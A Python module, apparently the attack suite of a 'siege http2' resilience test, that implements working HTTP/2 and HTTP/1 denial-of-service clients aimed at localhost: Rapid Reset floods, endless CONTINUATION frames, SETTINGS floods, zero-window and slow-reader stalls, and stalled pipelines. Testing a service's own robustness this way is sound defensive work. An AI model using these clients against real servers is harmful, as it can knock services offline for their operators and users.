"""Clients that abuse HTTP/2, frame by frame, and stalled ones of HTTP/1: what `siege http2` sends."""

import asyncio
import struct

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
INITIAL_WINDOW_SIZE = 4

# The largest thing that the service sends, and one that it makes anew for each request.
ASSET, METRICS = "/docs/swagger-ui-bundle.js", "/metrics"


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def head(path):
    """The head of a GET in HPACK: entries of the static table and literals that are not indexed."""
    return b"\x82\x86\x04" + bytes([len(path)]) + path.encode() + b"\x41\x01a"


def get(stream, path):
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, head(path))


def hello(window):
    return PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, window))


async def until_closed(reader):
    """Reads and forgets. A reset ends a connection as well."""
    try:
        while await reader.read(65_536):
            pass
    except OSError:
        pass


async def again(connection):
    """The same attack on a new connection whenever the old one was closed."""
    while True:
        try:
            await connection()
        except OSError:
            pass
        await asyncio.sleep(0.2)


async def zero_window(port):
    """As many requests as are allowed, none of whose responses is taken, and pings."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(hello(0) + b"".join(get(stream, METRICS) for stream in range(1, 256, 2)))
    reading = asyncio.create_task(until_closed(reader))
    while not reading.done():
        writer.write(frame(PING, 0, 0, bytes(8)) + frame(PING, ACK, 0, bytes(8)))
        await asyncio.wait([reading], timeout=1)
    writer.close()


async def slow_reader(port):
    """A large response, of which a byte a second is taken."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(hello(0) + get(1, ASSET))
    reading = asyncio.create_task(until_closed(reader))
    while not reading.done():
        writer.write(frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)))
        await asyncio.wait([reading], timeout=1)
    writer.close()


async def stalled_pipeline(port):
    """HTTP/1: many large responses asked for, and not one byte read."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port, limit=1)
    writer.write(f"GET {ASSET} HTTP/1.1\r\nHost: a\r\n\r\n".encode() * 50)
    # Its buffer is full at once, so that asyncio reads no more; whether it was cut shows in writing.
    while not writer.transport.is_closing():
        await asyncio.sleep(1)
        writer.write(b"\r\n")
        await writer.drain()


async def rapid_reset(port):
    """Streams that are opened and reset in one breath."""
    await flood(port, lambda first: b"".join(
        get(stream, "/live") + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
        for stream in range(first, first + 200, 2)
    ))


async def continuations(port):
    """A head that never ends."""
    opened = frame(HEADERS, END_STREAM, 1, head("/live"))
    piece = frame(CONTINUATION, 0, 1, b"\x40\x01b\x01c")
    await flood(port, lambda first: (opened if first == 1 else b"") + piece * 100)


async def settings(port):
    """Settings, each of which has to be acknowledged."""
    await flood(port, lambda _: frame(SETTINGS) * 100)


async def endless_head(port):
    """The first frame of a head, and then a ping a second."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(hello(65_535) + frame(HEADERS, END_STREAM, 1, head("/live")))
    await until_closed(reader)
    writer.close()


async def flood(port, burst):
    """Bursts, as fast as the service reads them, until it closes the connection."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(hello(65_535))
    reading = asyncio.create_task(until_closed(reader))
    first = 1
    while not reading.done() and first < 2**31 - 400:
        writer.write(burst(first))
        first += 200
        await writer.drain()
        await asyncio.sleep(0)
    writer.close()


ATTACKS = {
    "zero windows": (zero_window, 40),
    "slow readers": (slow_reader, 40),
    "stalled pipelines": (stalled_pipeline, 40),
    "rapid resets": (rapid_reset, 4),
    "endless continuations": (continuations, 4),
    "floods of settings": (settings, 4),
    "heads that never end": (endless_head, 40),
}
